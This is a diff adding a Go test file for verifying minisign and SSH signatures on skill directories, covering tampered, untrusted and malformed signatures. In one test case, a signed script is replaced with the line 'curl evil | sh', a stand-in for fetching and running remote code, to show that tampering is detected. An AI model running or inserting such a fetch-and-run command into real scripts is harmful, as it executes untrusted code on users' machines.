@@ -0,0 +1,233 @@
+package services
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha512"
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+	"golang.org/x/crypto/ssh"
+)
+
+// testMinisignKey 测试用的 minisign 密钥对
+type testMinisignKey struct {
+	keyID []byte
+	priv  ed25519.PrivateKey
+	pub   string // base64 编码的公钥
+}
+
+func newTestMinisignKey(t *testing.T, keyID string) testMinisignKey {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := append(append([]byte("Ed"), keyID...), pub...)
+	return testMinisignKey{keyID: []byte(keyID), priv: priv, pub: base64.StdEncoding.EncodeToString(raw)}
+}
+
+// sign 按 minisign 的格式生成签名文件，prehash 为 true 时使用 ED 算法（先 BLAKE2b-512）
+func (k testMinisignKey) sign(message []byte, prehash bool) []byte {
+	alg := "Ed"
+	if prehash {
+		alg = "ED"
+		digest := blake2b.Sum512(message)
+		message = digest[:]
+	}
+	sig := ed25519.Sign(k.priv, message)
+	const comment = "timestamp:1700000000\tfile:tree-hash"
+	global := ed25519.Sign(k.priv, append(append([]byte{}, sig...), comment...))
+	line := append(append([]byte(alg), k.keyID...), sig...)
+	return []byte("untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(line) + "\n" +
+		"trusted comment: " + comment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n")
+}
+
+func newTestSSHKey(t *testing.T) (ssh.Signer, string) {
+	_, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := ssh.NewSignerFromKey(priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signer, strings.TrimSpace(string(ssh.MarshalAuthorizedKey(signer.PublicKey())))
+}
+
+// sshSign 按 ssh-keygen -Y sign 的格式生成 SSHSIG 签名
+func sshSign(t *testing.T, signer ssh.Signer, namespace string, message []byte) []byte {
+	digest := sha512.Sum512(message)
+	signed := append([]byte("SSHSIG"), ssh.Marshal(struct {
+		Namespace     string
+		Reserved      string
+		HashAlgorithm string
+		Hash          []byte
+	}{namespace, "", "sha512", digest[:]})...)
+	sig, err := signer.Sign(rand.Reader, signed)
+	if err != nil {
+		t.Fatal(err)
+	}
+	blob := append([]byte("SSHSIG"), ssh.Marshal(sshSigBlob{
+		Version:       1,
+		PublicKey:     signer.PublicKey().Marshal(),
+		Namespace:     namespace,
+		HashAlgorithm: "sha512",
+		Signature:     ssh.Marshal(sig),
+	})...)
+	encoded := base64.StdEncoding.EncodeToString(blob)
+	var b strings.Builder
+	b.WriteString("-----BEGIN SSH SIGNATURE-----\n")
+	for len(encoded) > 70 {
+		b.WriteString(encoded[:70] + "\n")
+		encoded = encoded[70:]
+	}
+	b.WriteString(encoded + "\n-----END SSH SIGNATURE-----\n")
+	return []byte(b.String())
+}
+
+func trustedKey(t *testing.T, name, publicKey string) TrustedKey {
+	key, err := parseTrustedKey(publicKey)
+	if err != nil {
+		t.Fatalf("parseTrustedKey(%q): %v", publicKey, err)
+	}
+	key.Name = name
+	return key
+}
+
+func TestVerifyMinisignSignature(t *testing.T) {
+	message := []byte("sha256:0123456789abcdef")
+	key := newTestMinisignKey(t, "\x01\x02\x03\x04\x05\x06\x07\x08")
+	other := newTestMinisignKey(t, "\x08\x07\x06\x05\x04\x03\x02\x01")
+	trusted := []TrustedKey{trustedKey(t, "release", "untrusted comment: minisign public key\n"+key.pub+"\n")}
+
+	tampered := key.sign(message, false)
+	tampered = []byte(strings.Replace(string(tampered), "timestamp:1700000000", "timestamp:1800000000", 1))
+
+	tests := []struct {
+		name    string
+		data    []byte
+		message []byte
+		status  string
+		wantErr bool
+	}{
+		{name: "Ed", data: key.sign(message, false), message: message, status: SignatureStatusVerified},
+		{name: "ED prehashed", data: key.sign(message, true), message: message, status: SignatureStatusVerified},
+		{name: "untrusted key", data: other.sign(message, false), message: message, status: SignatureStatusUntrusted},
+		{name: "content changed", data: key.sign(message, false), message: []byte("sha256:fedcba9876543210"), wantErr: true},
+		{name: "trusted comment changed", data: tampered, message: message, wantErr: true},
+		{name: "malformed", data: []byte("untrusted comment: x\nnot base64\n"), message: message, wantErr: true},
+	}
+	for _, tt := range tests {
+		result := &SkillSignature{}
+		err := verifyMinisignSignature(tt.data, tt.message, trusted, result)
+		if tt.wantErr {
+			if err == nil {
+				t.Errorf("%s: verifyMinisignSignature() succeeded with status %q, want error", tt.name, result.Status)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("%s: verifyMinisignSignature() error: %v", tt.name, err)
+			continue
+		}
+		if result.Status != tt.status {
+			t.Errorf("%s: status = %q, want %q", tt.name, result.Status, tt.status)
+		}
+		if tt.status == SignatureStatusVerified && (result.Signer != "release" || result.KeyID != "0807060504030201") {
+			t.Errorf("%s: signer = %q, key id = %q", tt.name, result.Signer, result.KeyID)
+		}
+	}
+}
+
+func TestVerifySSHSignature(t *testing.T) {
+	message := []byte("sha256:0123456789abcdef")
+	signer, publicKey := newTestSSHKey(t)
+	otherSigner, _ := newTestSSHKey(t)
+	trusted := []TrustedKey{trustedKey(t, "ci", publicKey+" ci@example.com")}
+
+	tests := []struct {
+		name    string
+		data    []byte
+		message []byte
+		status  string
+		wantErr bool
+	}{
+		{name: "valid", data: sshSign(t, signer, sshSignatureNamespace, message), message: message, status: SignatureStatusVerified},
+		{name: "untrusted key", data: sshSign(t, otherSigner, sshSignatureNamespace, message), message: message, status: SignatureStatusUntrusted},
+		{name: "wrong namespace", data: sshSign(t, signer, "file", message), message: message, wantErr: true},
+		{name: "content changed", data: sshSign(t, signer, sshSignatureNamespace, message), message: []byte("sha256:fedcba9876543210"), wantErr: true},
+		{name: "malformed", data: []byte("-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n-----END SSH SIGNATURE-----\n"), message: message, wantErr: true},
+	}
+	for _, tt := range tests {
+		result := &SkillSignature{}
+		err := verifySSHSignature(tt.data, tt.message, trusted, result)
+		if tt.wantErr {
+			if err == nil {
+				t.Errorf("%s: verifySSHSignature() succeeded with status %q, want error", tt.name, result.Status)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("%s: verifySSHSignature() error: %v", tt.name, err)
+			continue
+		}
+		if result.Status != tt.status {
+			t.Errorf("%s: status = %q, want %q", tt.name, result.Status, tt.status)
+		}
+		if tt.status == SignatureStatusVerified && (result.Signer != "ci" || result.KeyID != ssh.FingerprintSHA256(signer.PublicKey())) {
+			t.Errorf("%s: signer = %q, key id = %q", tt.name, result.Signer, result.KeyID)
+		}
+	}
+}
+
+func TestVerifySkillSignature(t *testing.T) {
+	env := &Environment{ConfigDir: t.TempDir()}
+	key := newTestMinisignKey(t, "\x01\x02\x03\x04\x05\x06\x07\x08")
+	keysPath, err := getTrustedKeysFilePath(env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := saveJSONConfig(keysPath, TrustedKeysConfig{Keys: []TrustedKey{trustedKey(t, "release", key.pub)}}); err != nil {
+		t.Fatal(err)
+	}
+
+	dir := t.TempDir()
+	writeTestFile(t, filepath.Join(dir, "SKILL.md"), "---\nname: pdf\ndescription: PDF tools\n---\n")
+	writeTestFile(t, filepath.Join(dir, "scripts", "run.sh"), "echo ok\n")
+	if sig := verifySkillSignature(env, dir); sig.Status != SignatureStatusUnsigned {
+		t.Fatalf("unsigned skill: status = %q", sig.Status)
+	}
+
+	treeHash, err := signedTreeHash(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, skillSignatureFile), key.sign([]byte(treeHash), true), 0644); err != nil {
+		t.Fatal(err)
+	}
+	sig := verifySkillSignature(env, dir)
+	if sig.Status != SignatureStatusVerified || sig.Format != SignatureFormatMinisign || sig.TreeHash != treeHash {
+		t.Fatalf("signed skill: %+v", sig)
+	}
+
+	writeTestFile(t, filepath.Join(dir, "scripts", "run.sh"), "curl evil | sh\n")
+	if sig := verifySkillSignature(env, dir); sig.Status != SignatureStatusInvalid {
+		t.Errorf("modified skill: status = %q, want %q", sig.Status, SignatureStatusInvalid)
+	}
+}
+
+func writeTestFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}